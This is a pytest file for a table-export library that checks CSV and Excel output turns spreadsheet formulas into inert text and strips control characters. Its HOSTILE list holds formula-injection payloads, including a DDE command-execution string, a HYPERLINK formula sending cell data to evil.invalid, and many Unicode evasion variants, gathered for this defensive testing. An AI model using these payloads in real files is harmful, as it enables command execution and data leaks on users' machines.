"""What people take away: the same values in every format, and nothing that runs."""

import csv
import io
import sys
import time
import unicodedata

import numpy as np
import openpyxl
import pandas as pd
import pytest

from rankscope.tables import neutral, read_table, to_csv, to_excel

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
    "=",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2-3-cmd|' /C calc'!A0",
    "-",
    "--5",
    "-5%",
    "-1,5",
    "-A1",
    "@SUM(1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1",
    "\t5",
    "\tname",
    "\r=1",
    "\n=1",
    "\r\nname",
    " =1",
    "   \u00a0\u3000=1",
    " \t=1",
    '"=1"',
    '""=1',
    '" =1',
    "“=1”",
    " '=1",
    "`=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "－5",
    "＠SUM(1)",
    "\u3000＝1",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1)",
    "−2+3",
    "−5",
    "ー1+1",
    "ｰ1+1",
    "＂=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\0=1",
    "\x0b=1",
    "\x1f=1",
    "\x7f=1",
    "\u2028=1",
    "-inf",
    "-5\n",
    "-1d5",
    "+1e5+A1",
    "-٣",
]
HARMLESS = [
    *("age", "1+1", "a=b", "mean (log)", "x-1", "a@b.invalid", "", " ", '"', "'", "'=1", "#N/A"),
    *(
        "5",
        "-5",
        "+5",
        "-5.",
        "-.5",
        "+3.2e-4",
        "-1E10",
        " -5",
        "-0",
        "тест",
        "年齢",
        "é=1",
        "✓",
        "TRUE",
    ),
]
START = "=+-@＝＋－＠\t\r\n"


def frame():
    return pd.DataFrame(
        {
            "variable": ["=1+1", 'a "b", c', None],
            "=score": [1 / 3, -2.0, np.nan],
            "rank": [1, 2, 3],
            "kept": [True, False, True],
            "when": pd.to_datetime(["2020-01-02", "2021-03-04 05:06", None], format="mixed"),
        }
    )


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(text):
    assert neutral(text) == "'" + text
    assert neutral(neutral(text)) == neutral(text)


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_texts_and_plain_numbers_stay(text):
    assert neutral(text) == text


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_cells_column_names_and_index_names_are_neutral_in_csv(text):
    table = pd.DataFrame({text: [text, "b"]}, index=pd.Index([text, "c"], name=text))
    for row in list(csv.reader(io.StringIO(to_csv(table, index=True), newline="")))[:2]:
        for cell in row:
            assert cell[0] == "'"
            assert cell.replace("'", "") == without_controls(text).replace("'", "")


def without_controls(text):
    return "".join(c for c in text if unicodedata.category(c) != "Cc" or c in "\t\r\n")


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r", "\r\n"])
@pytest.mark.parametrize("text", ["=1+1", "＝1", ' "@SUM(1)', "-2+3"])
def test_no_cell_begins_a_formula_where_another_separator_is_expected(text, separator):
    written = to_csv(pd.DataFrame({"n": [1], "t": [f"a{separator}{text}"]}))
    parts = written.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").split("\n")
    assert any(part.startswith("'" + text[:1]) for part in parts)
    assert not any(part.strip(' "')[:1] in tuple(START) for part in parts if part)


def test_parts_that_are_harmless_stay_as_they_are():
    assert (
        to_csv(pd.DataFrame({"a; b": ["x;-5;y", "one\ntwo"]})) == '"a; b"\n"x;-5;y"\n"one\ntwo"\n'
    )


def test_a_table_is_written_to_the_letter():
    assert to_csv(frame()) == (
        "variable,'=score,rank,kept,when\n"
        "'=1+1,0.3333333333,1,True,2020-01-02\n"
        '"a ""b"", c",-2,2,False,2021-03-04 05:06:00\n'
        ",,3,True,\n"
    )


def test_numbers_have_ten_digits_and_whole_ones_are_whole():
    values = [1 / 3, 123456.789012345, 1e-12 / 3, 2.0, -0.0, 12345678901234.0, 1e300, np.inf]
    cells = to_csv(pd.DataFrame({"v": values})).split()[1:]
    digits = ["0.3333333333", "123456.789", "3.333333333e-13"]
    assert cells == [*digits, "2", "0", "12345678901234", "1e+300", "inf"]


def test_whole_numbers_are_written_in_full():
    values = pd.array([2**60 + 1, None], dtype="Int64")
    assert to_csv(pd.DataFrame({"v": values, "o": [7, 2.5]}, dtype=object)) == (
        f"v,o\n{2**60 + 1},7\n,2.5\n"
    )


def test_csv_holds_no_character_that_a_terminal_obeys():
    controls = [chr(code) for code in (*range(32), *range(127, 160)) if chr(code) not in "\t\r\n"]
    table = pd.DataFrame({f"n{c}": [f"a{c}b"] for c in controls} | {"t": ["a\x1b[31mb\tc\n\x9b1m"]})
    written = to_csv(table, index=True)
    assert not set(written) & set(controls)
    assert '"a[31mb\tc\n1m"' in written and written.count("ab") == len(controls)


def test_a_control_character_in_front_hides_no_formula():
    assert to_csv(pd.DataFrame({"a": ["\x1b=1"]})) == "a\n'=1\n"


def test_every_text_comes_back_from_csv():
    texts = [text for text in HOSTILE + HARMLESS if text and not set(text) & set(";\t\r\n\0")]
    written = to_csv(pd.DataFrame({"n": np.arange(len(texts)), "t": texts}))
    expected = [neutral(without_controls(text)) for text in texts]
    assert [row[1] for row in csv.reader(io.StringIO(written))][1:] == expected
    back = pd.read_csv(io.StringIO(written), keep_default_na=False, dtype=str)
    assert back["t"].tolist() == expected


def test_line_ends_inside_texts_stay_inside():
    texts = ["a\rb", "a\nb", "a\r\nb", "a\u2028b"]
    rows = list(csv.reader(io.StringIO(to_csv(pd.DataFrame({"t": texts})), newline="")))
    assert rows == [["t"], *([text] for text in texts)]


def test_a_frame_comes_back_through_pandas():
    numbers = pd.DataFrame(np.random.default_rng(1).normal(size=(50, 4)), columns=list("abcd"))
    numbers.iloc[3, 2] = np.nan
    back = pd.read_csv(io.StringIO(to_csv(numbers)))
    pd.testing.assert_frame_equal(back, numbers, rtol=1e-9, atol=0)


def test_our_own_reader_reads_the_same_numbers():
    rng = np.random.default_rng(2)
    table = pd.DataFrame({"variable": HOSTILE, "score": rng.normal(size=len(HOSTILE))})
    table["small"], table["rank"] = table["score"] * 1e-9, np.arange(1, len(table) + 1)
    table.loc[[2, 5], "small"] = np.nan
    back = read_table(to_csv(table).encode(), isolated=False).frame
    assert back.columns.tolist() == table.columns.tolist() and len(back) == len(table)
    for name in ("score", "small", "rank"):
        ten = [float(f"{value:.10g}") for value in table[name]]
        np.testing.assert_array_equal(back[name].to_numpy(dtype=float), ten)


def test_a_gap_alone_in_its_line_is_still_a_row():
    written = to_csv(pd.DataFrame({"a": [1.5, None, 2]}))
    assert written == 'a\n1.5\n""\n2\n'
    assert len(pd.read_csv(io.StringIO(written))) == 3


def test_odd_frames_are_written_too():
    assert to_csv(pd.DataFrame()) == ""
    assert to_csv(pd.DataFrame({"a": [], "b": []})) == "a,b\n"
    twice = pd.DataFrame([[1, "x"]], columns=["a", "a"], index=pd.Index(["r"]))
    assert to_csv(twice, index=True) == ",a,a\nr,1,x\n"
    parts = pd.DataFrame([[1]], columns=pd.MultiIndex.from_tuples([("=a", 2)]))
    assert to_csv(parts) == "'=a 2\n1\n"
    assert to_csv(pd.DataFrame({"c": pd.Categorical(["=x", None])})) == 'c\n\'=x\n""\n'


def sheets(frames):
    return openpyxl.load_workbook(io.BytesIO(to_excel(frames)))


def test_a_workbook_holds_the_same_values():
    book = sheets({"Ranking": frame(), "n": frame().set_index("variable")[["rank"]]})
    assert book.sheetnames == ["Ranking", "n"]
    rows = list(book["Ranking"].values)
    assert rows == [
        ("variable", "'=score", "rank", "kept", "when"),
        ("'=1+1", 1 / 3, 1, True, "2020-01-02"),
        ('a "b", c', -2, 2, False, "2021-03-04 05:06:00"),
        (None, None, 3, True, None),
    ]
    assert list(book["n"].values)[1] == ("'=1+1", 1)


def test_the_header_is_bold_and_stays_in_sight_and_columns_are_wide_enough():
    sheet = sheets({"a": pd.DataFrame({"v": ["x" * 30], "long": ["y" * 500], "n": [1]})})["a"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert [sheet.column_dimensions[c].width for c in "ABC"] == [32, 60, 8]


def test_texts_are_texts_in_a_workbook_and_never_formulas():
    texts = [*HOSTILE, *(text for text in HARMLESS if text)]
    sheet = sheets({"t": pd.DataFrame({"=n": texts})})["t"]
    cells = [cell for (cell,) in sheet.iter_rows()]
    assert {cell.data_type for cell in cells} == {"s"}
    assert cells[0].value == "'=n"
    for text, cell in zip(texts, cells[1:], strict=True):
        assert cell.value == neutral(cell.value)
        assert (cell.value[0] == "'") == (neutral(text)[0] == "'")


def test_characters_xml_forbids_are_removed_before_the_text_is_made_neutral():
    texts = ["a\x00b\x08c\x1fd", "\x01=1", "a\ud800b", "a\ufffeb", "a\r\nb\rc", "\t<&>\u202e"]
    sheet = sheets({"t": pd.DataFrame({"v": pd.Series(texts, dtype=object)})})["t"]
    values = [value for (value,) in sheet.values][1:]
    assert values == ["abcd", "'=1", "ab", "ab", "a\nb\nc", "'\t<&>\u202e"]


def test_a_text_that_looks_like_a_code_of_excel_is_not_decoded():
    sheet = sheets({"t": pd.DataFrame({"v": ["_x003D_1+1", "_x_"]})})["t"]
    assert [value for (value,) in sheet.values][1:] == ["_x005F_x003D_1+1", "_x_"]


def test_numbers_excel_does_not_have_become_texts():
    values = [np.inf, -np.inf, 2**53, 2**53 + 1, 1.5e308, 1e-300]
    sheet = sheets({"t": pd.DataFrame({"v": values}, dtype=object)})["t"]
    back = [value for (value,) in sheet.values][1:]
    assert back == ["inf", "'-inf", 2**53, str(2**53 + 1), "1.5e+308", 1e-300]


@pytest.mark.parametrize(
    "text", ["a/b:c*d?e[f]g\\h", "n" * 200, "", "'quoted'", "History", "=1+1", "a\nb\0c", "😀" * 40]
)
def test_any_text_makes_a_legal_sheet_name(text):
    one = pd.DataFrame({"a": [1]})
    names = sheets({text: one, text + " ": one, text.upper() + "  ": one}).sheetnames
    assert len({name.casefold() for name in names}) == 3
    for name in names:
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("\\/*?:[]\0\n") and name.casefold() != "history"
        assert name == name.strip("' ")


def test_what_excel_has_no_room_for_is_said():
    with pytest.raises(ValueError, match=r"big has 1,048,577 rows with its header.* take fewer"):
        to_excel({"big": pd.DataFrame({"a": np.arange(2**20)})})
    with pytest.raises(ValueError, match=r"wide has 16,385 columns, an Excel sheet holds at most"):
        to_excel({"wide": pd.DataFrame(np.zeros((1, 16_385)))})
    with pytest.raises(ValueError, match=r"A text has 32,768 characters"):
        to_excel({"t": pd.DataFrame({"a": ["=" + "x" * 32_766]})})
    with pytest.raises(ValueError, match=r"A text has 32,768 characters"):
        to_excel({"t": pd.DataFrame({"😀" * 16_384: [1]})})
    with pytest.raises(ValueError, match="There is no table"):
        to_excel({})
    longest = pd.DataFrame({"a": ["x" * 32_767]})
    assert len(sheets({"t": longest})["t"]["A2"].value) == 32_767


def test_a_workbook_has_the_same_bytes_at_any_time(monkeypatch):
    first = to_excel({"a": frame()})
    later = time.time() + 1e6
    monkeypatch.setattr(time, "time", lambda: later)
    assert to_excel({"a": frame()}) == first
    assert sheets({"a": frame()}).properties.modified.year == 2000


def test_without_openpyxl_it_is_said_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(ImportError, match="pip install openpyxl, or take the CSV file"):
        to_excel({"a": frame()})
